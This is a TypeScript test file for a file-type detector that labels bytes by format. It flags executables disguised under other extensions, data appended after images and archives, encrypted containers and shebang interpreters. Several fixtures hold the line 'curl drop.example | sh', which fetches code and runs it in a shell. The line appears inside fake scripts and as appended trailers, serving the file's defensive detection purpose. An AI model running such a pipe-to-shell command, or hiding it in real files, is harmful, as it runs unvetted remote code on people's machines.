import { gzipSync } from 'node:zlib';
import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { typeOf } from '../../core/bundle/file-type.ts';
import { shebangOf } from '../../core/bundle/shebang.ts';
import { decodeText } from '../../core/bundle/text.ts';
import { writeTar } from '../support/tar-writer.ts';
import { bytesOf, join, writeZip } from '../support/zip-writer.ts';

const hex = (digits: string): Uint8Array => new Uint8Array(Buffer.from(digits.replaceAll(' ', ''), 'hex'));
const png = hex(
  '89504e470d0a1a0a 0000000d49484452 0000000100000001 0806000000 1f15c489 0000000a49444154 789c6300010000050001 0d0a2db4 0000000049454e44 ae426082',
);
const gif = hex('474946383961 0100 0100 80 00 00 000000ffffff 2c 00000000 0100 0100 00 02 02 4401 00 3b');
const jpeg = hex('ffd8 ffe0 0010 4a46494600010100000100010000 ffda 0008 01010000 3f00 aa ff00 ffd0 bb ffd9');
const wav = join([bytesOf('RIFF'), hex('18000000'), bytesOf('WAVE'), new Uint8Array(20)]);
const elf = hex('7f454c46 0201010000000000 0000000000000000 0300 3e00');
const pe = join([hex('4d5a9000'), new Uint8Array(56), hex('40000000'), bytesOf('PE\0\0')]);
const zip = writeZip([{ name: 'a.txt', data: 'x' }]);
const pdf = bytesOf('%PDF-1.4\n1 0 obj\n<<>>\nendobj\ntrailer <<>>\n%%EOF\n');

function kindOf(path: string, bytes: Uint8Array): string {
  const { kind, label } = typeOf(path, bytes, false);
  return `${kind}: ${label}`;
}

describe('content', () => {
  it.each([
    ['a.png', png, 'image: PNG image'],
    ['a.gif', gif, 'image: GIF image'],
    ['a.jpg', jpeg, 'image: JPEG image'],
    ['a.wav', wav, 'audio: WAV audio'],
    ['a.webp', join([bytesOf('RIFF'), hex('04000000'), bytesOf('WEBP')]), 'image: WebP image'],
    ['tool', elf, 'native: ELF program'],
    ['tool.exe', pe, 'native: Windows program'],
    ['tool', hex('cffaedfe 07000001'), 'native: Mach-O program'],
    ['tool', hex('cafebabe 00000002 01000007'), 'native: Mach-O program'],
    ['A.class', hex('cafebabe 00000037 0010'), 'bytecode: Java class'],
    ['a.wasm', hex('0061736d 01000000'), 'bytecode: WebAssembly'],
    ['m.cpython-312.pyc', hex('cb0d0d0a 00000000 00000000 00000000'), 'bytecode: Python bytecode'],
    ['m.dat', hex('cb0d0d0a 00000000 00000000 00000000'), 'bytecode: Python bytecode'],
    ['model.pkl', hex('80049500 2e'), 'bytecode: Python pickle'],
    ['a.zip', zip, 'archive: ZIP archive'],
    ['a.jar', writeZip([{ name: 'META-INF/MANIFEST.MF' }]), 'archive: Java archive'],
    ['a.docx', writeZip([{ name: '[Content_Types].xml' }, { name: 'word/document.xml' }]), 'document: Word document'],
    ['a.gz', new Uint8Array(gzipSync('x')), 'archive: gzip archive'],
    ['a.tar', writeTar([{ name: 'a', data: 'x' }]), 'archive: tar archive'],
    ['a.7z', join([hex('377abcaf271c0004'), new Uint8Array(24)]), 'archive: 7z archive'],
    ['a.rar', hex('526172211a0700'), 'archive: RAR archive'],
    ['a.bz2', hex('425a6839 314159265359 00'), 'archive: bzip2 archive'],
    ['a.xz', hex('fd377a585a00 0004'), 'archive: xz archive'],
    ['a.zst', hex('28b52ffd 00'), 'archive: Zstandard archive'],
    ['a.pdf', pdf, 'document: PDF document'],
    ['a.woff2', join([bytesOf('wOF2'), hex('00010000 0000000c')]), 'font: WOFF2 font'],
    ['a.ttf', hex('0001000000 01 00000000000000 00'), 'font: TrueType font'],
    ['a.mp4', join([hex('00000010'), bytesOf('ftypisom'), new Uint8Array(4)]), 'video: MP4 video'],
    ['a.sqlite', join([bytesOf('SQLite format 3\0'), new Uint8Array(100)]), 'binary: SQLite database'],
    ['a.doc', hex('d0cf11e0a1b11ae1 00'), 'document: Office document (binary)'],
    ['installer.msi', hex('d0cf11e0a1b11ae1 00'), 'native: Office document (binary)'],
    ['disk.dmg', join([new Uint8Array(100), bytesOf('koly'), new Uint8Array(508)]), 'archive: disk image'],
    ['data.bin', hex('00010203 04050607 f0f1f2f3'), 'binary: data'],
    ['logo.svg', bytesOf('<svg xmlns="http://www.w3.org/2000/svg"/>'), 'text: SVG image'],
    ['run', bytesOf('#!/bin/bash\n'), 'text: Shell script'],
    ['run.py', bytesOf('import os\n'), 'text: Python'],
    ['Dockerfile', bytesOf('FROM x\n'), 'text: Dockerfile'],
    ['SKILL.md', bytesOf('# x'), 'text: Markdown'],
    ['notes', bytesOf('x'), 'text: text'],
    ['x.sh', bytesOf('BZh=1; curl drop.example | sh\n'), 'text: Shell script'],
    ['x.sh', bytesOf('%PDF-1.4\ncurl drop.example | sh\n'), 'text: Shell script'],
    ['x.json', bytesOf('true'), 'text: JSON'],
    ['x.sh', bytesOf(`echo\0${'\x01'.repeat(20)}`), 'text: Shell script'],
  ])('%s', (path, bytes, expected) => {
    expect(kindOf(path, bytes)).toBe(expected);
  });

  it('is a shell script when it is executable text without a name', () => {
    expect(typeOf('run', bytesOf('echo x'), true).label).toBe('Shell script');
  });
});

describe('mismatch', () => {
  it.each([
    ['a.txt', elf, 'ELF program named .txt'],
    ['a.dat', elf, 'ELF program named .dat'],
    ['logo.png', elf, 'ELF program named .png'],
    ['logo.png', bytesOf('#!/bin/sh\ncurl drop.example'), 'Shell script named .png'],
    ['logo.png', bytesOf('just text'), 'text named .png'],
    ['logo.png', hex('00010203 04050607'), 'unknown data named .png'],
    ['notes.md', zip, 'ZIP archive named .md'],
    ['run.py', hex('00010203 04050607'), 'binary data named .py'],
    ['run.sh', bytesOf('#!/usr/bin/env python3\n'), 'Python named .sh'],
    ['photo.jpg', png, 'PNG image named .jpg'],
    ['x.docx', zip, 'ZIP archive named .docx'],
  ])('%s', (path, bytes, expected) => {
    expect(typeOf(path, bytes, false).mismatch).toBe(expected);
  });

  it.each([
    ['a.png', png],
    ['lib.so', elf],
    ['tool', elf],
    ['a.zip', zip],
    ['x.skill', zip],
    ['x.dat', zip],
    ['run.ts', bytesOf('#!/usr/bin/env node\n')],
    ['run.sh', bytesOf('#!/bin/bash\n')],
    ['a.pdf', pdf],
    ['data.bin', hex('0001020304')],
  ])('none for %s', (path, bytes) => {
    expect(typeOf(path, bytes, false).mismatch).toBeUndefined();
  });
});

describe('trailing data', () => {
  it.each([
    ['a.png', png],
    ['a.gif', gif],
    ['a.jpg', jpeg],
    ['a.wav', wav],
    ['a.zip', zip],
    ['a.pdf', pdf],
  ])('%s', (path, bytes) => {
    expect(typeOf(path, bytes, false).trailing).toBe(false);
    expect(typeOf(path, join([bytes, bytesOf('#!/bin/sh\ncurl drop.example | sh\n')]), false).trailing).toBe(true);
    expect(typeOf(path, join([bytes, zip]), false).trailing).toBe(true);
    expect(typeOf(path, bytes.subarray(0, bytes.length - 7), false).trailing).toBe(true);
  });
});

describe('text with something else in it', () => {
  it('is a script with an archive behind it', () => {
    const type = typeOf('app.pyz', join([bytesOf('#!/usr/bin/env python3\nimport os\n'), zip]), true);
    expect(type).toMatchObject({ kind: 'text', label: 'Python', container: 'zip', trailing: true });
    const shell = typeOf('app.pyz', join([bytesOf('#!/bin/sh\n'), zip]), true);
    expect(shell).toMatchObject({ kind: 'text', container: 'zip', trailing: true });
  });

  it('is an application when Python runs the archive and only its line stands before it', () => {
    const bytes = join([bytesOf('#!/usr/bin/env python3\n'), zip]);
    const type = typeOf('app.pyz', bytes, true);
    expect(type).toMatchObject({ kind: 'text', label: 'Python', container: 'zip', trailing: false });
    expect(typeOf('app.png', bytes, true).mismatch).toBeDefined();
  });

  it('is binary data under the name of a script', () => {
    expect(typeOf('run.sh', hex('00010203 04050607'), false)).toMatchObject({ kind: 'text', trailing: true });
    expect(typeOf('run.sh', bytesOf('echo'), false)).toMatchObject({ kind: 'text', trailing: false });
  });

  it('can always be decoded', () => {
    fc.assert(
      fc.property(
        fc.constantFrom('', '#!/bin/sh\n', '\ufeff#!/bin/sh\n', '\ufeff'),
        fc.uint8Array(),
        fc.constantFrom('a', 'a.sh', 'a.md'),
        (head, tail, path) => {
          const bytes = join([bytesOf(head), tail]);
          if (typeOf(path, bytes, false).kind === 'text') expect(decodeText(bytes, path)).toBeDefined();
        },
      ),
      { numRuns: 1000 },
    );
  });
});

describe('encryption', () => {
  it.each([
    ['a.zip', writeZip([{ name: 'a', data: 'x', flags: 0x0801 }]), true],
    ['a.zip', zip, false],
    ['a.pdf', bytesOf('%PDF-1.4\ntrailer <</Encrypt 5 0 R>>\n%%EOF'), true],
    ['a.rar', hex('526172211a070100 00000000 05 04 00'), true],
    ['a.rar', hex('526172211a070100 00000000 05 01 00'), false],
    ['a.docx', join([hex('d0cf11e0a1b11ae1'), new Uint8Array(Buffer.from('EncryptedPackage', 'utf16le'))]), true],
    ['a.enc', bytesOf('Salted__12345678'), true],
    ['vault.yml', bytesOf('$ANSIBLE_VAULT;1.1;AES256\n1234\n'), true],
  ])('%s', (path, bytes, expected) => {
    expect(typeOf(path, bytes, false).encrypted).toBe(expected);
  });
});

describe('interpreter', () => {
  it.each([
    ['#!/bin/sh', 'sh'],
    ['#! /usr/bin/env python3', 'python3'],
    ['#!/usr/bin/env -S node --no-warnings', 'node'],
    ['#!/usr/bin/env -Snode', 'node'],
    ['#!/usr/bin/env -u HOME A=1 bash -x', 'bash'],
    ['#!/usr/bin/env npx -y tsx', 'tsx'],
    ['#!/usr/bin/env -S uv run --script', 'python3'],
    ['\ufeff#!/bin/bash\r\n', 'bash'],
    ['#!/bin/bash\\nset', 'bash'],
    ['#!', undefined],
    ['# !/bin/sh', undefined],
  ])('%s', (text, expected) => {
    expect(shebangOf(bytesOf(text))).toBe(expected);
  });
});
